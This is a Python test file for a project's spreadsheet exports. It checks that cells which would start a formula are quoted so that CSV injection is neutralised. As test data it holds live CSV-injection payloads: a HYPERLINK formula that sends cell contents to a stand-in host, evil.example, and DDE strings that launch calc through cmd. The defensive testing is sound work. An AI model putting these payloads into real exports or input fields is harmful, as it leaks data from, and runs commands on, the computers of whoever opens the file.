"""CSV injection: text a spreadsheet would run as a formula is neutralised in every export. This
module covers the shared guard and the register export; the statistics, shelter and online
exports have the same test beside their own code."""

import csv
import io

import pytest

from samen.core.models import ProcessingRule
from samen.spreadsheets import SafeDictWriter, SafeWriter, safe_cell, safe_column, safe_row

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'


@pytest.mark.parametrize(
    "value",
    [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
     "\t=1+1", "\r=1+1"],
)  # fmt: skip
def test_text_that_starts_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3, 2.5, 0, None, "-3", "+1.5", "-0,25", "abc", "", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_safe_writers_quote_every_cell():
    buffer = io.StringIO()
    SafeWriter(buffer).writerows([[HYPERLINK, -1, "-1"]])
    writer = SafeDictWriter(buffer, fieldnames=["a", "b"])
    writer.writerows([{"a": HYPERLINK, "b": -2}])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'" + HYPERLINK, "-1", "-1"], ["'" + HYPERLINK, "-2"]]


def test_the_register_export_neutralises_formulas(web_for):
    ProcessingRule.objects.filter(pk=ProcessingRule.objects.first().pk).update(
        legal_basis=HYPERLINK, sector_law="@SUM(1)"
    )
    body = web_for("demo-professional").get("/register/?format=csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";")
             for cell in row]  # fmt: skip
    assert "'" + HYPERLINK in cells and "'@SUM(1)" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_a_column_is_made_safe_exactly_as_its_cells():
    plain = ["ad-1", "c0000001", "x=1", 12]
    assert safe_column(plain) is plain  # nothing to guard: the list itself
    risky = ["ad-1", '=HYPERLINK("x")', "-12", "@SUM(A1)", 7, None]
    assert safe_column(risky) == safe_row(risky)
    assert safe_column(risky)[1] == '\'=HYPERLINK("x")'
